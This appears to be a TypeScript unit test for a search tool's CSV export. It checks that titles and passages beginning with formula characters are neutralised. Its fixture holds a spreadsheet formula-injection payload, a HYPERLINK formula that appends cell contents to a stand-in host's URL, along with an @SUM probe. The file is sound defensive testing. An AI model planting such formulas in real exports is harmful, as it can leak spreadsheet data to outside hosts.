import { expect } from 'chai';
import type { SearchHit } from '@lauda/sdk/server';
import { resultsCsv } from '../src/search/routes.js';

describe('search export CSV', () => {
  it('quotes what needs it and never lets a written title or passage be a formula', () => {
    const hit: SearchHit = {
      target: 'stories', type: 'story', id: '7', title: '=HYPERLINK("http://x/?"&A1;"ver")', date: '2026-11-28', programsIds: [1, 2],
      titleParts: [], fragments: [[{ text: '@SUM(A1) e ' }, { text: 'chuva', mark: true }]],
    };
    const [header, line] = resultsCsv([hit]).replace(/^\uFEFF/, '').trim().split('\r\n');
    expect(header).to.equal('section,type,id,title,date,programs,passages');
    expect(line).to.equal('stories,story,7,"\'=HYPERLINK(""http://x/?""&A1;""ver"")",2026-11-28,1 2,\'@SUM(A1) e chuva');
  });
});
